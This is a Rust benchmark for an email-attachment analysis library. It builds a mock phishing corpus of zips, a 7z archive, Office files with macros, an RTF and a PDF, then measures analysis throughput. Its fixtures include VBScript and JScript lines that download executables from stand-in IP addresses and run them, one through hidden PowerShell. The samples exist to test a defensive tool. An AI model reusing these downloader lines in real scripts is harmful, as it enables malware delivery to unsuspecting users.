//! Artifacts per second and MB/s over a mixed attachment set built at run
//! time: zip+vbs, AES zip (password from the list), 7z+js, docm, xls with a
//! macro sheet, RTF with a Package object, PDF with a URI, and a nested
//! zip. `cargo bench -p mozu-artifact --bench artifacts`; without `--bench`
//! (under `cargo test --all-targets`) one quick pass.

use std::io::{Cursor, Write};
use std::time::{Duration, Instant};

use mozu_model::{SourceFormat, SourceRef};
use zip::write::SimpleFileOptions;

fn zip(entries: &[(&str, &[u8])], aes: Option<&str>) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        let mut o = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        if let Some(pw) = aes {
            o = o.with_aes_encryption(zip::AesMode::Aes256, pw);
        }
        w.start_file(*name, o).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn sevenz(name: &str, data: &[u8]) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    let mut w = sevenz_rust2::ArchiveWriter::new(&mut out).unwrap();
    w.push_archive_entry(sevenz_rust2::ArchiveEntry::new_file(name), Some(data))
        .unwrap();
    w.finish().unwrap();
    out.into_inner()
}

fn pdf() -> Vec<u8> {
    let body = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj\n\
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n\
3 0 obj << /Type /Page /Parent 2 0 R /Annots [5 0 R] >> endobj\n\
4 0 obj << /S /URI /URI (https://mega.nz/#!HxtDEK6Q) >> endobj\n\
5 0 obj << /Type /Annot /Subtype /Link /A 4 0 R >> endobj\n\
6 0 obj << /Creator (doPDF Ver 8.7 Build 943) /CreationDate (D:20161030184215+09'00') >> endobj\n\
trailer << /Root 1 0 R /Info 6 0 R >>\n%%EOF\n";
    body.as_bytes().to_vec()
}

fn corpus() -> Vec<(String, Vec<u8>)> {
    let vbs = "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://203.0.113.10/a.exe\", False\r\nCreateObject(\"WScript.Shell\").Run \"a.exe\"\r\n".repeat(40);
    let js = "var s = new ActiveXObject('WScript.Shell'); s.Run('powershell -nop -w hidden -c iwr http://198.51.100.4/p.exe');\n".repeat(40);
    let parts = mozu_office::fixtures::docm_parts();
    let refs: Vec<(&str, &[u8])> = parts.iter().map(|(n, d)| (n.as_str(), d.as_slice())).collect();
    let docm = zip(&refs, None);
    let inner = zip(&[("PIC_2020.vbs", vbs.as_bytes())], None);
    vec![
        (
            "PIC_123456_2020.zip".into(),
            zip(&[("PIC_123456_2020.vbs", vbs.as_bytes())], None),
        ),
        (
            "secure.zip".into(),
            zip(&[("invoice.js", js.as_bytes())], Some("infected")),
        ),
        ("doc.7z".into(), sevenz("document.js", js.as_bytes())),
        ("請求書.docm".into(), docm),
        ("book.xls".into(), mozu_office::fixtures::xls_with_macro_sheet()),
        ("note.rtf".into(), mozu_office::fixtures::rtf_package_object()),
        ("手順.pdf".into(), pdf()),
        (
            "outer.zip".into(),
            zip(
                &[("inner.zip", &inner), ("readme.txt", b"see http://example.com/")],
                None,
            ),
        ),
    ]
}

fn main() {
    let measuring = std::env::args().any(|a| a == "--bench");
    let set = corpus();
    let bytes: usize = set.iter().map(|(_, d)| d.len()).sum();
    let opts = mozu_artifact::Options::default();
    let run = || {
        let mut artifacts = 0usize;
        for (name, data) in &set {
            let source = SourceRef {
                path: name.clone(),
                index: None,
                format: SourceFormat::File,
            };
            artifacts += mozu_artifact::analyse_file(data.clone(), source, &opts, None)
                .artifacts
                .len();
        }
        artifacts
    };
    let per_pass = run();
    let start = Instant::now();
    let mut passes = 0u32;
    while passes == 0 || (measuring && start.elapsed() < Duration::from_secs(5)) {
        std::hint::black_box(run());
        passes += 1;
    }
    let secs = start.elapsed().as_secs_f64();
    println!(
        "artifact analysis (1 thread): {} attachments, {} artifacts per pass, {:.1} KB input, {passes} passes: {:.0} artifacts/s, {:.0} attachments/s, {:.1} MB/s of input",
        set.len(),
        per_pass,
        bytes as f64 / 1024.0,
        per_pass as f64 * f64::from(passes) / secs,
        set.len() as f64 * f64::from(passes) / secs,
        bytes as f64 * f64::from(passes) / secs / 1e6
    );
}
